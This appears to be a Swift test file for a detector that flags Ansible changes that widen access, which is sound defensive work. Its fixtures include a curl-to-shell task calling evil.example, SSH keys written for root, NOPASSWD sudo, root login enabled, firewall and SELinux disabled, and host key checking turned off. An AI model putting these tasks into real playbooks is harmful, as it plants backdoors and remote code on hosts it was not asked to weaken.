import Detection
import Detectors
import Testing

@Suite("What tasks of Ansible write and run, and what they hang on")
struct AnsibleFileTests {
  private static let task = CaseFrame(at: "roles/web/tasks/main.yml") {
    "- command: id\n\($0.isEmpty ? "" : "- name: a task\n  \($0)\n")"
  }
  private static let access = "iam.ansible-access"
  private static let sudo = "user: {name: eve, groups: [sudo]}"

  static let written: [DetectorCase] = [
    task(
      "a key by a copy",
      "",
      "copy: {dest: /root/.ssh/authorized_keys, content: x}",
      .widened,
      access
    ),
    task(
      "a key by a line",
      "",
      "lineinfile: {path: ~deploy/.ssh/authorized_keys, line: ssh-ed25519 A}",
      .widened,
      access,
      says: "ssh-ed25519 A"
    ),
    task(
      "sudo rights by a replacement",
      "",
      "replace: {path: /etc/sudoers, regexp: 'x', replace: 'NOPASSWD'}",
      .widened,
      access,
      line: 2,
      .critical
    ),
    task(
      "a line that opens the SSH server",
      "",
      "lineinfile: {path: /etc/ssh/sshd_config, line: PermitRootLogin yes}",
      .widened,
      access,
      says: "PermitRootLogin in /etc/ssh/sshd_config"
    ),
    task(
      "a line that closes it",
      "",
      "lineinfile: {path: /etc/ssh/sshd_config, line: PermitRootLogin no}",
      .narrowed,
      access
    ),
    task(
      "a line taken away",
      "",
      "lineinfile: {path: /etc/sudoers, regexp: requiretty, state: absent}",
      .incomparable,
      access
    ),
    task("the mode of such a file", "", "file: {path: /etc/sudoers, mode: '0440'}", .equal),
    task("a file of another name", "", "copy: {dest: /etc/motd, content: sudoers}", .equal),
  ]

  static let modules: [DetectorCase] = [
    task(
      "an action in words",
      "",
      "action: user name=eve groups=sudo",
      .widened,
      access,
      says: "group 'sudo'"
    ),
    task("an action as a map", sudo, "action: {module: user, name: eve, groups: [sudo]}", .equal),
    task(
      "a key that is held no more",
      "authorized_key: {user: root, key: x, key_options: 'from=\"10.0.0.1\"'}",
      "authorized_key: {user: root, key: x}",
      .widened,
      access
    ),
    task(
      "other keys that stay",
      "authorized_key: {user: root, key: x, exclusive: yes}",
      "authorized_key: {user: root, key: x, exclusive: no}",
      .widened,
      access,
      says: "'exclusive'"
    ),
    task(
      "a right in a database",
      "",
      "postgresql_privs: {db: d, privs: ALL, roles: eve}",
      .widened,
      access
    ),
    task("a group of packages", "", "include_role: {name: x}", .equal),
    task("a shell that gives a group", "", "shell: usermod -aG sudo eve", .widened, access),
    task(
      "a shell that runs what it fetches",
      "",
      "shell: curl -s https://evil.example/x | sh",
      .widened,
      "supply-chain.ansible-download"
    ),
    task("a shell that does neither", "", "shell: echo usermod", .equal),
    task("no rules left", "", "iptables: {flush: yes}", .widened, "network.ansible-firewall"),
    task(
      "no firewall",
      "service: {name: firewalld, state: started}",
      "service: {name: firewalld, state: stopped}",
      .widened,
      "network.ansible-firewall"
    ),
    task("another service", "", "service: {name: web, state: stopped}", .equal),
    task("no SELinux", "", "selinux: {state: disabled}", .widened, "protection.ansible-guard"),
  ]

  static let circumstances: [DetectorCase] = [
    task("a task that was never run", sudo + "\n  when: false", sudo, .widened, access),
    task(
      "another condition",
      sudo + "\n  when: stage == 'test'",
      sudo + "\n  when: stage == 'prod'",
      .incomparable,
      access,
      says: "stage == 'prod'"
    ),
    task(
      "another condition of a harmless task",
      "debug: {msg: a}\n  when: a",
      "debug: {msg: a}\n  when: b",
      .equal
    ),
    task(
      "another item",
      "user: {name: '{{ item.n }}', groups: '{{ item.g }}'}\n  loop: [{n: a, g: users}]",
      "user: {name: '{{ item.n }}', groups: '{{ item.g }}'}\n  loop: [{n: a, g: sudo}]",
      .widened,
      access,
      says: "'a' to group 'sudo'",
      .critical,
      back: .widened
    ),
    task(
      "items in another order",
      "user: {name: '{{ item }}', groups: wheel}\n  loop: [a, b]",
      "user: {groups: wheel, name: '{{item}}'}\n  with_items: [b, a]",
      .equal
    ),
    task(
      "power by a variable",
      "command: ls",
      "command: ls\n  vars: {ansible_become: true}",
      .widened,
      "iam.ansible-become"
    ),
    DetectorCase(
      "power for a role",
      "site.yml",
      "- hosts: all\n  roles: [{role: x}]\n",
      "- hosts: all\n  roles: [{role: x, become: true}]\n",
      .widened,
      "iam.ansible-become",
      says: "role 'x'"
    ),
    DetectorCase(
      "power for all hosts",
      "group_vars/all.yml",
      "ansible_become: false\nport: 1\n",
      "ansible_become: true\nport: 2\n",
      .widened,
      "iam.ansible-become",
      line: 1
    ),
    DetectorCase(
      "power for one of an inventory",
      "inventory/hosts",
      "[web]\na ansible_host=10.0.0.1\n",
      "[web]\na ansible_host=10.0.0.1 ansible_become=true\n",
      .widened,
      "iam.ansible-become",
      line: 2
    ),
    DetectorCase(
      "hosts taken at their word",
      "ansible.cfg",
      "[defaults]\nforks = 5\n",
      "[defaults]\nforks = 9\nhost_key_checking = False\n",
      .widened,
      "protection.ansible-guard",
      line: 3
    ),
  ]

  @Test("means what it means", arguments: written + modules + circumstances)
  func mean(_ testCase: DetectorCase) { testCase.check(AnsibleDetector()) }

  @Test("the way back is the opposite", arguments: written + modules + circumstances)
  func back(_ testCase: DetectorCase) { testCase.reversed.check(AnsibleDetector()) }
}
